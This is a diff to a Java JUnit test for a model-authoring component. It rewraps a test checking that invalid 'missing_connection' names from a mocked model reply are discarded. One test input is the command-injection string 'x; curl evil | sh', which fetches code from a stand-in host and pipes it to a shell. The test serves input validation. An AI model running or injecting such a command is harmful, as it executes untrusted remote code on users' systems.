@@ -144,8 +144,9 @@ class ModelAuthorTest {
     @Test
     void what_is_no_name_of_a_missing_connection_is_a_question_in_the_words_of_the_model() {
         for (var named : List.of("x; curl evil | sh", "warehouse", "GitHub ", "a\\nb")) {
-            server.saysOnly("{\"kind\":\"question\",\"text\":\"Which shop?\",\"options\":[],\"reason\":\"\",\"steps\":[],"
-                    + "\"assumptions\":[],\"missing_connection\":\"" + named + "\"}");
+            server.saysOnly(
+                    "{\"kind\":\"question\",\"text\":\"Which shop?\",\"options\":[],\"reason\":\"\",\"steps\":[],"
+                            + "\"assumptions\":[],\"missing_connection\":\"" + named + "\"}");
             var unclear = (Author.Unclear) author().draft(task("load the orders of the shop"));
             assertThat(unclear.question().text()).as(named).isEqualTo("Which shop?");
             assertThat(unclear.question().missing()).isNull();
